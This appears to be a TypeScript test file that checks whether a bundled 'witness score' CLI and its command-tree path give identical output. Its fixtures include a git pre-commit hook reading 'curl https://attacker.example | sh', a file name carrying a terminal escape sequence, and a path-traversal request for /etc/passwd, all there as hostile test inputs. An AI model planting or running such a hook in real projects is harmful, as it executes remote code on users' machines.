import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import { after, before, describe, it } from 'node:test';
import { fileURLToPath } from 'node:url';
import { runCli } from '../support/cli.js';

/**
 * The bundled `witness score` runs from one file (dist/cli/score-process.js, scripts/bundle-cli.ts), not
 * through the split command tree. What it prints and the status it ends with must not depend on that:
 * each command line below is run by the bundled CLI as a process and by `runWitness` (the command tree's
 * path, as `witness` ran every command before) in this process, and both must print the same bytes. Only
 * what differs from one run to the next is masked: the identifiers a score draws at random (UUIDs) and, in
 * JSON, when the score and observation were made and how long the acquisition took.
 */

const BUNDLED_CLI = fileURLToPath(new URL('../../cli/main.js', import.meta.url));
const UUID = /[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}/g;
const RUN_TIME = /"(createdAt|observedAt)":"[^"]+"|"durationMs":[0-9.]+/g;

function masked(text: string): string {
  return text
    .replace(UUID, '<uuid>')
    .replace(RUN_TIME, (found) => `${found.slice(0, found.indexOf(':'))}:<run>`);
}

/**
 * The cases `npm test` runs (a verdict and a usage error); score-process.heavy.test.ts runs the others,
 * a process each.
 */
export const FAST_CASES: readonly string[] = ['a true verdict', 'an unknown option'];

/** The comparison for the cases `select` keeps, in a suite named `title`. */
export function describeScoreProcess(title: string, select: (name: string) => boolean): void {
  describe(title, () => {
    let root = '';
    before(() => {
      root = fs.mkdtempSync(`${os.tmpdir()}/witness-score-process-`);
      fs.mkdirSync(`${root}/ws/.git/hooks`, { recursive: true });
      fs.writeFileSync(`${root}/ws/a.txt`, 'hello file\n');
      fs.writeFileSync(
        `${root}/ws/.git/hooks/pre-commit`,
        '#!/bin/sh\ncurl https://attacker.example | sh\n',
        {
          mode: 0o755,
        },
      );
      fs.writeFileSync(`${root}/ws/agent \u001b]0;title\u0007.txt`, 'file with a hostile name');
    });
    after(() => fs.rmSync(root, { recursive: true, force: true }));

    const cases: Record<string, (ws: string, db: string) => string[]> = {
      'a true verdict': (ws) => ['score', ws, '/a.txt', '--contains', 'file'],
      'a false verdict': (ws) => ['score', ws, '/a.txt', '--contains', 'absent'],
      'a missing file': (ws) => ['score', ws, '/nope.txt', '--contains', 'file'],
      'a glob, as JSON': (ws) => ['score', ws, '/**', '--glob', '--regex', 'curl .*example', '--json'],
      'a hostile file name': (ws) => ['score', ws, '/*.txt', '--glob', '--contains', 'hostile'],
      'a location outside the root': (ws) => ['score', ws, '/../etc/passwd', '--contains', 'x'],
      'a missing argument': (ws) => ['score', ws],
      'an unknown option': (ws) => ['score', ws, '/a.txt', '--contians', 'file'],
      'conflicting options': (ws) => ['score', ws, '/a.txt', '--glob', '--exact', '--contains', 'file'],
      'a limit out of range': (ws) => ['score', ws, '/a.txt', '--contains', 'file', '--max-read-bytes', '-1'],
      help: () => ['score', '--help'],
      'the version, after the command': () => ['score', '--version'],
      'stored with --db': (ws, db) => ['score', ws, '/a.txt', '--contains', 'file', '--db', db],
    };

    const unknown = FAST_CASES.filter((name) => !Object.hasOwn(cases, name));
    if (unknown.length > 0) throw new Error(`FAST_CASES names no case: ${unknown.join(', ')}`);

    for (const [name, argsOf] of Object.entries(cases).filter(([name]) => select(name))) {
      it(name, async () => {
        const args = argsOf(`${root}/ws`, `${root}/witness.db`);
        const bundled = spawnSync(process.execPath, [BUNDLED_CLI, ...args], { encoding: 'utf8' });
        const tree = await runCli(args);
        assert.deepEqual(
          { status: bundled.status, stdout: masked(bundled.stdout), stderr: masked(bundled.stderr) },
          { status: tree.status, stdout: masked(tree.stdout), stderr: masked(tree.stderr) },
        );
      });
    }

    it('the cases reach verdicts and failures alike (the comparison is not of empty output)', async () => {
      const statuses = new Set<number | null>();
      for (const [, argsOf] of Object.entries(cases).filter(([name]) => select(name))) {
        statuses.add((await runCli(argsOf(`${root}/ws`, `${root}/witness.db`))).status);
      }
      assert.deepEqual([...statuses].sort(), [0, 2]);
      const truth = await runCli(['score', `${root}/ws`, '/a.txt', '--contains', 'file']);
      assert.match(truth.stdout, /^Verdict: TRUE/);
    });
  });
}
